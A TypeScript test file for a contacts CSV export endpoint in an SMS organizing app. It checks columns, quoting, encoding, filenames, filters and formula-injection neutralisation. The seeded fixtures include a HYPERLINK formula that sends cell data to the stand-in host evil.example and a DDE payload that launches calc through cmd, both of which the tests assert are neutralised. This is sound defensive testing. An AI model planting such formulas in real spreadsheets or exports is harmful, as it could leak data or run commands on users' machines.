/**
 * GET /api/exports/contacts.csv through the real HTTP app and a real SQLite file, read back
 * with csv-parse: columns, RFC 4180 quoting, UTF-8, BOM, dated filename, formula
 * neutralisation, and every filter.
 */
import { DEMO_CAMPAIGN } from '../../src/usecases/campaigns/seed';
import { ADMIN_TOKEN, admin, testApp, type TestApp } from '../helpers/app';
import { download, readCsv } from '../helpers/csv';
import { addMember, demoCampaignId, insertContact, signUp } from '../helpers/people';
import { text } from '../helpers/app';

const HEADER = [
  'phone', 'first_name', 'zip', 'email', 'campaigns', 'status', 'joined_at', 'opted_out_at', 'pledge_amount', 'pledge_frequency',
  'flow_completed', 'language', 'referral_code', 'recruited_by', 'recruits', 'teams',
];

let t: TestApp;
let demoId: string;
let hallId: string;

async function contacts(query = '') {
  const d = await download(t.app, `/api/exports/contacts.csv${query}`, ADMIN_TOKEN);
  if (d.status !== 200) throw new Error(`export answered ${d.status}: ${d.text}`);
  return { ...d, ...readCsv(d.text) };
}

const phones = (rows: Record<string, string>[]) => rows.map((r) => r.phone);

beforeAll(async () => {
  t = testApp();
  demoId = demoCampaignId(t.ctx.db);
  const hall = await admin(t.app).post('/api/campaigns', {
    ...DEMO_CAMPAIGN, name: '@Town Hall, "Day 1"', keywords: [{ word: 'HALL', aliases: [] }],
  });
  expect(hall.status).toBe(201);
  hallId = hall.body.id;

  // 2026-11-21 20:00Z: Ana completes the demo flow with a $10/mo pledge.
  await signUp(t.app, '+13125550100', { name: 'Ana', zip: '60601', pledge: '$10/mo', email: 'ana@example.org' });
  // Next day: Ben completes it without pledge or email, then joins Town Hall and pledges $25.
  t.clock.set('2026-11-22T15:30:00.000Z');
  await signUp(t.app, '+13125550101', { name: 'Ben', zip: '02134' });
  t.clock.set('2026-11-23T09:00:00.000Z');
  await signUp(t.app, '+13125550101', { name: 'Ben', zip: '02134', pledge: '25' }, 'HALL');
  // Cleo joins and stops mid-flow.
  await text(t.app, '+13125550102', 'JOIN');
  t.clock.set('2026-11-23T09:05:00.000Z');
  await text(t.app, '+13125550102', 'STOP');
  // Dev texts something that is not a keyword: pending, never joined anything.
  await text(t.app, '+13125550103', 'hello?');
  t.clock.set('2026-11-24T12:00:00.000Z');

  // Values the SMS flow would refuse but an old import or a hostile list can hold.
  insertContact(t.ctx.db, { id: 'x-quote', phone: '+13125550110', first_name: 'Lopez, "Maria"\nJosé 😀', zip: '60601', email: 'maria@example.org' });
  insertContact(t.ctx.db, { id: 'x-eq', phone: '+13125550111', first_name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' });
  insertContact(t.ctx.db, { id: 'x-plus', phone: '+13125550112', first_name: '+1+cmd|\' /C calc\'!A0' });
  insertContact(t.ctx.db, { id: 'x-minus', phone: '+13125550113', first_name: '-2+3', email: '@SUM(1,2)@example.org' });
  insertContact(t.ctx.db, { id: 'x-tab', phone: '+13125550114', first_name: '\t=1+1', zip: '\r=2+2' });
  insertContact(t.ctx.db, { id: 'x-test', phone: '+13125550199', first_name: 'Tess Test', is_test: 1 });
  for (const id of ['x-quote', 'x-eq', 'x-plus', 'x-minus', 'x-tab', 'x-test']) addMember(t.ctx.db, demoId, id, '2026-11-20T10:00:00.000Z');
  addMember(t.ctx.db, hallId, 'x-eq', '2026-11-19T10:00:00.000Z');
});
afterAll(() => t.close());

describe('contacts.csv', () => {
  test('has the documented columns, one row per contact, test contacts and opted-out contacts left out', async () => {
    const { header, rows } = await contacts();
    expect(header).toEqual(HEADER);
    expect(phones(rows).sort()).toEqual(
      ['+13125550100', '+13125550101', '+13125550103', '+13125550110', '+13125550111', '+13125550112', '+13125550113', '+13125550114'],
    );
  });

  test('describes each contact: campaigns, status, joined_at, pledge in dollars, flow completion', async () => {
    const { rows } = await contacts();
    const ana = rows.find((r) => r.phone === '+13125550100');
    expect(ana).toEqual({
      phone: '+13125550100', first_name: 'Ana', zip: '60601', email: 'ana@example.org', campaigns: 'Demo rally', status: 'subscribed',
      joined_at: '2026-11-21T20:00:00.000Z', opted_out_at: '', pledge_amount: '10.00', pledge_frequency: 'monthly', flow_completed: 'yes',
      language: '', referral_code: expect.stringMatching(/^ANA[A-HJ-NP-Z2-9]{2}$/), recruited_by: '', recruits: '0', teams: '',
    });
    const ben = rows.find((r) => r.phone === '+13125550101')!;
    expect(ben.campaigns).toBe('Demo rally; @Town Hall, "Day 1"');
    // A campaign name starting with @ is neutralised when it starts the cell.
    expect(rows.find((r) => r.phone === '+13125550111')!.campaigns).toBe('\'@Town Hall, "Day 1"; Demo rally');
    expect([ben.zip, ben.joined_at, ben.pledge_amount, ben.pledge_frequency]).toEqual(['02134', '2026-11-22T15:30:00.000Z', '25.00', 'monthly']);
    const dev = rows.find((r) => r.phone === '+13125550103')!;
    expect([dev.status, dev.campaigns, dev.joined_at, dev.flow_completed]).toEqual(['pending', '', '2026-11-23T09:05:00.000Z', 'no']);
  });

  test('RFC 4180 with CRLF: commas, quotes and newlines inside a name survive, and UTF-8 (accents, emoji) is byte-exact', async () => {
    const d = await contacts();
    expect(d.text.endsWith('\r\n')).toBe(true);
    expect(d.text).toContain('"Lopez, ""Maria""\nJosé 😀"');
    expect(d.body.includes(Buffer.from('José 😀', 'utf8'))).toBe(true);
    expect(d.rows.find((r) => r.phone === '+13125550110')!.first_name).toBe('Lopez, "Maria"\nJosé 😀');
    expect(d.body.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
  });

  test('cells starting with = + - @ tab or CR are prefixed with an apostrophe; E.164 phones stay usable', async () => {
    const { rows } = await contacts();
    const by = (p: string) => rows.find((r) => r.phone === p)!;
    expect(by('+13125550111').first_name).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(by('+13125550112').first_name).toBe("'+1+cmd|' /C calc'!A0");
    expect(by('+13125550113').first_name).toBe("'-2+3");
    expect(by('+13125550113').email).toBe("'@SUM(1,2)@example.org");
    expect(by('+13125550114').first_name).toBe("'\t=1+1");
    expect(by('+13125550114').zip).toBe("'\r=2+2");
    expect(by('+13125550114').phone).toBe('+13125550114');
    for (const r of rows) {
      for (const [col, v] of Object.entries(r)) if (col !== 'phone') expect(v).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  test('?bom=1 starts the file with a UTF-8 byte order mark for Excel', async () => {
    const d = await download(t.app, '/api/exports/contacts.csv?bom=1', ADMIN_TOKEN);
    expect(d.body.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(readCsv(d.text).header).toEqual(HEADER);
  });

  test('headers: text/csv UTF-8, attachment with a dated filename, never cached', async () => {
    const d = await contacts();
    expect(d.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(d.headers['content-disposition']).toBe('attachment; filename="rallytext-contacts-2026-11-24.csv"');
    expect(d.headers['cache-control']).toBe('no-store');
    const c = await contacts(`?campaign=${hallId}`);
    expect(c.headers['content-disposition']).toBe('attachment; filename="rallytext-contacts-town-hall-day-1-2026-11-24.csv"');
  });
});

describe('contacts.csv filters', () => {
  test('campaign (by id or by name): members only, with that campaign\'s join time, completion and pledge', async () => {
    const byId = await contacts(`?campaign=${hallId}`);
    expect(phones(byId.rows)).toEqual(['+13125550101', '+13125550111']);
    expect(byId.rows[0]).toMatchObject({ joined_at: '2026-11-23T09:00:00.000Z', pledge_amount: '25.00', flow_completed: 'yes' });
    const byName = await contacts(`?campaign=${encodeURIComponent('Demo rally')}`);
    const ben = byName.rows.find((r) => r.phone === '+13125550101')!;
    expect(ben).toMatchObject({ joined_at: '2026-11-22T15:30:00.000Z', pledge_amount: '', pledge_frequency: '' });
    expect(phones(byName.rows)).not.toContain('+13125550103');
  });

  test('subscribed=1 leaves out pending contacts', async () => {
    const { rows } = await contacts('?subscribed=1');
    expect(rows.every((r) => r.status === 'subscribed')).toBe(true);
    expect(phones(rows)).not.toContain('+13125550103');
    expect(rows).toHaveLength(7);
  });

  test('pledged=1 keeps contacts with a pledge (in the campaign, when given)', async () => {
    expect(phones((await contacts('?pledged=1')).rows)).toEqual(['+13125550100', '+13125550101']);
    expect(phones((await contacts(`?pledged=1&campaign=${demoId}`)).rows)).toEqual(['+13125550100']);
  });

  test('since/until bound joined_at; a date-only until includes that whole UTC day', async () => {
    expect(phones((await contacts('?since=2026-11-21&until=2026-11-21')).rows)).toEqual(['+13125550100']);
    expect(phones((await contacts('?since=2026-11-22T00:00:00Z')).rows)).toEqual(['+13125550101', '+13125550103']);
    expect(phones((await contacts('?until=2026-11-20')).rows)).toHaveLength(5);
    expect(phones((await contacts('?since=2026-11-22T15:30:00Z&until=2026-11-22T15:30:00Z')).rows)).toEqual(['+13125550101']);
    expect(phones((await contacts(`?since=2026-11-23&campaign=${hallId}`)).rows)).toEqual(['+13125550101']);
  });

  test('include_opted_out=1 from an organizer adds opted-out contacts with their opt-out time', async () => {
    const { rows } = await contacts('?include_opted_out=1');
    const cleo = rows.find((r) => r.phone === '+13125550102');
    expect(cleo).toMatchObject({ status: 'opted_out', opted_out_at: '2026-11-23T09:05:00.000Z', flow_completed: 'no' });
    expect(rows).toHaveLength(9);
  });

  test.each([
    ['?subscibed=1', 'Unrecognized key'],
    ['?since=yesterday', 'since'],
    ['?since=2026-02-30', 'since'],
    ['?subscribed=maybe', 'subscribed'],
    ['?since=2026-11-23&until=2026-11-22', 'until'],
    ['?campaign=a&campaign=b', 'campaign'],
  ])('bad filter %s is a 400 naming the problem, not an export', async (query, mention) => {
    const d = await download(t.app, `/api/exports/contacts.csv${query}`, ADMIN_TOKEN);
    expect(d.status).toBe(400);
    expect(JSON.stringify(d.json)).toContain(mention);
  });

  test('an unknown campaign is a 404', async () => {
    const d = await download(t.app, '/api/exports/contacts.csv?campaign=nope', ADMIN_TOKEN);
    expect(d.status).toBe(404);
    expect(d.json).toMatchObject({ error: { code: 'not_found' } });
  });
});
